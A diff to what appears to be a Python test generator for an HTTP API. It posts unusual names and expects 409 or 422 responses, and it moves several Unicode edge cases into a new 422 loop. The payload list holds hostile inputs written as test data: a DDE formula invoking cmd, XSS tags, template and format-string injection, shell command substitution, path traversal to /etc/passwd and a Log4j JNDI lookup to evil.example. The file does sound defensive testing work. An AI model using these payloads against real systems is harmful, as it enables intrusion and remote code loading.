@@ -151,11 +151,12 @@ def texts(make):
             ("DDE", "=cmd|'/c calc'!A0"), ("markup", "<script>alert(1)</script>"), ("an image", "<img src=x onerror=alert(1)>"),
                       ("a template", "{{7*7}}${7*7}"), ("formats", "%s%n%x%p"), ("a shell", "$(id)`id`;id|id"), ("a path", "../../etc/passwd"),
                       ("a link of Log4j", "${jndi:ldap://evil.example/x}"), ("a surrogate pair", "\\ud83d\\ude00"),
-                      ("combining marks", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹"),
-                      ("a noncharacter", "\ufffe"), ("a replacement", "\ufffd"), ("a tag", "\U000e0041"), ("Turkish i", "İıIi"),
-                      ("a ligature", "ﬁﬂ"),
-                      ("an unassigned one", "\U0003ffff"[:1])):
+                      ("combining marks", "Z̴̙̤̞͉͚̯̞̠͍͑ͫ̓ͪ̂ͫ̽A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹"),
+                      ("a replacement", "\ufffd"), ("Turkish i", "İıIi"), ("a ligature", "ﬁﬂ")):
         yield Case(f"a text that is {why}", make.member(body=b'{"name":"%s"}' % text.encode()), (409,), stays=True)
+    for why, text in (("a noncharacter", "\ufffe"), ("a tag", "\U000e0041"), ("an unassigned one", "\U0003ffff"), ("a joiner of graphemes", "Z\u034fA"),
+                      ("a space of no width", "A\u200bB"), ("turned around", "A\u202eB")):
+        yield Case(f"a text that is {why}", make.member(body=b'{"name":"%s"}' % text.encode()), (422,), stays=True)
     yield Case("a key that is a formula", make.member(b"Idempotency-Key: =1+1"), (409,), stays=True)
     yield Case("tags by the thousand", make.get(b"If-None-Match: " + b'"a",' * 3000, target=make.teams), (200,), stays=True)
     yield Case("tags in open quotes", make.get(b'If-None-Match: "a, W/"', target=make.teams), (200,), stays=True)
